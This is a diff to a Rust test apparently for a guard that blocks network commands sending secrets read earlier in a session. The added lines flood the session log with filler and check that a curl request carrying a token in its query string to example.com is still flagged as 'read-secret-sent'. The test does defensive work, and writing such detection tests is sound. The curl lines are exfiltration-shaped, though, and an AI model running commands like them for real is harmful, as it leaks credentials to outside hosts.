@@ -283,6 +283,12 @@ fn what_came_before_in_the_session_counts() {
     assert_eq!(word, "deny");
     assert!(text.contains("network/read-secret-sent"), "{text}");
     assert!(!ask("curl https://example.com/postgres").1.contains("read-secret-sent"));
+    // However much was written into the log since.
+    let written = std::fs::read_to_string(place.log()).unwrap();
+    let other = written.lines().find(|line| !line.contains("\"secrets\"")).unwrap().replace("\"s\"", "\"t\"") + "\n";
+    let mut log = std::fs::OpenOptions::new().append(true).open(place.log()).unwrap();
+    std::io::Write::write_all(&mut log, other.repeat(1 + 200_000 / other.len()).as_bytes()).unwrap();
+    assert!(ask("curl \"https://example.com/?q=tok-93kd02kfj\"").1.contains("network/read-secret-sent"));
     assert_eq!(ask("curl -H 'Authorization: Bearer tok-93kd02kfj' http://localhost:3000/").0, "");
     let log = std::fs::read_to_string(place.log()).unwrap();
     assert!(log.contains("\"secrets\":[") && !log.contains("93kd02kfj"), "{log}");
